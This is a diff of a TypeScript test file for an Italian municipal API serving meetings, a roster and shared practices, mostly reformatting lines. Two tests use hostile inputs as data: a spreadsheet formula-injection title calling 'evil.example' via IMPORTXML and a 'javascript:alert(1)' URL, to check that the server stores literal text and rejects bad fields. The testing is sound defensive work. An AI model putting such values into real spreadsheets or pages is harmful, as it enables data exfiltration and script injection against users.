@@ -1,5 +1,5 @@
 import { randomUUID } from "node:crypto";
-import { writeFile, unlink } from "node:fs/promises";
+import { unlink, writeFile } from "node:fs/promises";
 import { basename, dirname, join } from "node:path";
 import { SnapshotSchema } from "@rete-urp/shared";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
@@ -33,7 +33,10 @@ describe("health", () => {
 
 describe("access", () => {
   test("401 without a token, with a malformed header and with an unknown token", async () => {
-    for (const headers of [{}, { authorization: "Basic abc" }, { authorization: "Bearer urp_not-a-real-token" }] as Record<string, string>[]) {
+    for (const headers of [{}, { authorization: "Basic abc" }, { authorization: "Bearer urp_not-a-real-token" }] as Record<
+      string,
+      string
+    >[]) {
       const response = await api.call("/api/v1/snapshot", { headers });
       expect(response.status).toBe(401);
       expect((await response.json()).error.code).toBe("unauthorized");
@@ -128,7 +131,11 @@ describe("snapshot", () => {
     expect((await api.call("/api/v1/snapshot", { token, headers: { "if-none-match": etag } })).status).toBe(304);
 
     expect((await api.call("/api/v1/practices", postJson({ id: randomUUID(), title: "Nuova prassi" }, token))).status).toBe(201);
-    await eventually(async () => (await api.call("/api/v1/snapshot", { token, headers: { "if-none-match": etag } })).status === 200, 5000, "a new ETag");
+    await eventually(
+      async () => (await api.call("/api/v1/snapshot", { token, headers: { "if-none-match": etag } })).status === 200,
+      5000,
+      "a new ETag",
+    );
   });
 
   test("large snapshots go out gzipped to clients that accept it, and plain to others", async () => {
@@ -138,7 +145,13 @@ describe("snapshot", () => {
         const req = request(`${api.url}/api/v1/snapshot`, { headers: { authorization: `Bearer ${token}`, ...headers } }, (res) => {
           let bytes = 0;
           res.on("data", (chunk: Buffer) => (bytes += chunk.length));
-          res.on("end", () => resolve({ status: res.statusCode!, ...(res.headers["content-encoding"] ? { encoding: String(res.headers["content-encoding"]) } : {}), bytes }));
+          res.on("end", () =>
+            resolve({
+              status: res.statusCode!,
+              ...(res.headers["content-encoding"] ? { encoding: String(res.headers["content-encoding"]) } : {}),
+              bytes,
+            }),
+          );
         });
         req.on("error", reject);
         req.end();
@@ -182,7 +195,11 @@ describe("meetings, roster, practices", () => {
   test("GET /roster lists active referents of all ten enti", async () => {
     const { roster } = await (await api.call("/api/v1/roster", { token })).json();
     expect(roster.length).toBe(17);
-    expect(roster.find((r: { email: string }) => r.email === LUGO_REFERENT)).toMatchObject({ ente: "Lugo", role: "Referente", active: true });
+    expect(roster.find((r: { email: string }) => r.email === LUGO_REFERENT)).toMatchObject({
+      ente: "Lugo",
+      role: "Referente",
+      active: true,
+    });
   });
 
   test("GET /practices filters by words (ignoring accents), tag and ente", async () => {
@@ -199,11 +216,25 @@ describe("meetings, roster, practices", () => {
 describe("POST /api/v1/practices", () => {
   test("201 with the practice, author from the token, literal text in the workbook; the same id again is 200 and no second row", async () => {
     const id = randomUUID();
-    const body = { id, title: '=IMPORTXML("https://evil.example","//a")', url: "https://www.comune.lugo.ra.it/x", tags: ["social", "+39"], excerpt: "Testo selezionato" };
+    const body = {
+      id,
+      title: '=IMPORTXML("https://evil.example","//a")',
+      url: "https://www.comune.lugo.ra.it/x",
+      tags: ["social", "+39"],
+      excerpt: "Testo selezionato",
+    };
     const created = await api.call("/api/v1/practices", postJson(body, token));
     expect(created.status).toBe(201);
     const practice = await created.json();
-    expect(practice).toMatchObject({ id, title: body.title, ente: "Unione", author: "Giulia Bianchi", authorEmail: COORDINATOR, date: "2026-11-23", tags: ["social", "+39"] });
+    expect(practice).toMatchObject({
+      id,
+      title: body.title,
+      ente: "Unione",
+      author: "Giulia Bianchi",
+      authorEmail: COORDINATOR,
+      date: "2026-11-23",
+      tags: ["social", "+39"],
+    });
 
     const again = await api.call("/api/v1/practices", postJson({ ...body, title: "altro titolo" }, token));
     expect(again.status).toBe(200);
@@ -218,13 +249,18 @@ describe("POST /api/v1/practices", () => {
 
   test("concurrent retries of one id make one row", async () => {
     const id = randomUUID();
-    const answers = await Promise.all(Array.from({ length: 8 }, () => api.call("/api/v1/practices", postJson({ id, title: "Una sola volta" }, token))));
+    const answers = await Promise.all(
+      Array.from({ length: 8 }, () => api.call("/api/v1/practices", postJson({ id, title: "Una sola volta" }, token))),
+    );
     expect(answers.map((a) => a.status).sort()).toEqual([200, 200, 200, 200, 200, 200, 200, 201]);
     expect((await practiceRows()).filter((row) => row[0]?.value === id)).toHaveLength(1);
   });
 
   test("400 names each invalid field; the author cannot be forged", async () => {
-    const bad = await api.call("/api/v1/practices", postJson({ id: "abc", title: "  ", url: "javascript:alert(1)", author: "Qualcun altro" }, token));
+    const bad = await api.call(
+      "/api/v1/practices",
+      postJson({ id: "abc", title: "  ", url: "javascript:alert(1)", author: "Qualcun altro" }, token),
+    );
     expect(bad.status).toBe(400);
     const { error } = await bad.json();
     expect(error.code).toBe("invalid_request");
@@ -238,7 +274,12 @@ describe("POST /api/v1/practices", () => {
   });
 
   test("400 for a body that is not JSON, 413 for one over 64 KB", async () => {
-    const notJson = await api.call("/api/v1/practices", { method: "POST", token, headers: { "content-type": "application/json" }, body: "{title" });
+    const notJson = await api.call("/api/v1/practices", {
+      method: "POST",
+      token,
+      headers: { "content-type": "application/json" },
+      body: "{title",
+    });
     expect(notJson.status).toBe(400);
     expect((await notJson.json()).error.code).toBe("invalid_request");
     const huge = await api.call("/api/v1/practices", postJson({ id: randomUUID(), title: "x", excerpt: "a".repeat(70_000) }, token));
@@ -266,10 +307,14 @@ describe("POST /api/v1/practices", () => {
 describe("hand edits", () => {
   test("a meeting the coordinator adds to the file shows in the API within seconds and gets an ID", async () => {
     await appendByHeader(api.workbook, "Riunioni", { Data: "02/12/2026", Inizio: "15:00", Tipo: "Urgente", Luogo: "Online" });
-    const meeting = await eventually(async () => {
-      const { meetings } = await (await api.call("/api/v1/meetings", { token })).json();
-      return (meetings as { kind: string; start: string; id: string }[]).find((m) => m.kind === "urgent");
-    }, 10_000, "the urgent meeting");
+    const meeting = await eventually(
+      async () => {
+        const { meetings } = await (await api.call("/api/v1/meetings", { token })).json();
+        return (meetings as { kind: string; start: string; id: string }[]).find((m) => m.kind === "urgent");
+      },
+      10_000,
+      "the urgent meeting",
+    );
     expect(meeting.start).toBe("2026-12-02T15:00:00+01:00");
     const rows = await readTab(api.workbook, "Riunioni");
     const last = rows.at(-1)!;
